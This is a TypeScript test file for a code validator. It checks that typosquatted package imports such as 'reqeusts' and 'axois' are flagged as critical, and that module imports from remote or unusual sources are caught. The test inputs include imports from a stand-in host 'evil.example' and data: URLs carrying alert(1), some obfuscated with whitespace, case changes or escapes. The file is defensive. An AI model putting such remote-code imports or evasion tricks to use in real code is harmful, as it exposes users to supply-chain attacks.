import assert from 'node:assert/strict';
import { validator } from '../unit/core/validation/openValidator.ts';

describe('packages that code imports', () => {
  const found = async (language: string, code: string, declared: readonly string[] | undefined) => {
    const context = { language, fileName: '', fragment: false, knownPackages: declared && new Set(declared) };
    const { findings } = await validator.validate(code, context);
    return findings.filter(({ check }) => check === 'imports');
  };

  const lookalikes: readonly (readonly [language: string, code: string, name: string])[] = [
    ['python', 'import reqeusts\nreqeusts.get()\n', 'reqeusts'],
    ['python', 'import requets\nrequets.get()\n', 'requets'],
    ['python', 'import requestss\nrequestss.get()\n', 'requestss'],
    ['python', 'from djangoo import x\nx()\n', 'djangoo'],
    ['python', 'import nunpy\nnunpy.a()\n', 'nunpy'],
    ['python', 'import pandsa\npandsa.a()\n', 'pandsa'],
    ['javascript', "import e from 'expres';\ne();", 'expres'],
    ['javascript', "import e from 'lodahs';\ne();", 'lodahs'],
    ['javascript', 'const a = require("axois");\na();', 'axois'],
    ['typescript', "import { a } from 'reakt';\na();", 'reakt'],
    ['javascript', "const a = await import('chalkk');\na();", 'chalkk'],
    ['typescript', "import a from 'node_fetc';\na();", 'node_fetc'],
  ];
  for (const [language, code, name] of lookalikes)
    for (const declared of [[name], ['other'], undefined])
      it(`are critical one letter beside a well-known one: ${name}, ${declared?.[0] === name ? 'declared' : declared ? 'not declared' : 'without a manifest'}`, async () => {
        const [worst] = await found(language, code, declared);
        assert.deepEqual([worst?.rule, worst?.severity], ['imports.invented', 'critical']);
      });

  for (const [language, code, name] of [
    ['javascript', "import { h } from 'preact';\nh();", 'preact'],
    ['python', 'import scapy\nscapy.a()\n', 'scapy'],
    ['python', 'import requests\nrequests.get()\n', 'requests'],
    ['typescript', "import { z } from 'zod';\nz();", 'zod'],
    ['javascript', "import m from 'mysql2';\nm();", 'mysql2'],
  ] as const)
    it(`are fine when they are real and declared: ${name}`, async () => assert.deepEqual(await found(language, code, [name]), []));

  const addresses: readonly (readonly [what: string, code: string])[] = [
    ['an address', "import x from 'https://evil.example/x.js';\nx();"],
    ['one without encryption', "import x from 'http://evil.example/x.js';\nx();"],
    ['data', "import x from 'data:text/javascript,alert(1)';\nx();"],
    ['data behind white space', "import x from ' \\tdata:text/javascript,alert(1)';\nx();"],
    ['data with white space within', "import x from 'da\\tta:text/javascript,alert(1)';\nx();"],
    ['data in other case', "import x from 'DATA:text/javascript,alert(1)';\nx();"],
    ['data with an escaped letter', "import x from '\\x64ata:text/javascript,alert(1)';\nx();"],
    ['an address of no scheme', "import x from '//evil.example/x.js';\nx();"],
    ['a file', "import x from 'file:///etc/x.js';\nx();"],
    ['a blob', "const x = await import('blob:https://a/b');\nx();"],
    ['a dynamic import', "const x = await import('https://evil.example/x.js');\nx();"],
    ['a required one', "const x = require('https://evil.example/x.js');\nx();"],
    ['what is passed on', "export { x } from 'https://evil.example/x.js';"],
    ['an import for its effects', "import 'https://evil.example/x.js';"],
  ];
  for (const [what, code] of addresses)
    it(`are findings when they come from ${what}`, async () => {
      const all = await found('javascript', code, ['express']);
      assert.ok(
        all.some(({ rule }) => rule === 'imports.address'),
        JSON.stringify(all),
      );
    });

  it('are no addresses when a runtime names them by a scheme of its own', async () => {
    for (const module of ['node:fs', 'npm:chalk', 'jsr:@std/path', './a.js', '#inner'])
      assert.ok(
        (await found('javascript', `import x from '${module}';\nx();`, ['chalk'])).every(({ rule }) => rule !== 'imports.address'),
        module,
      );
  });
});
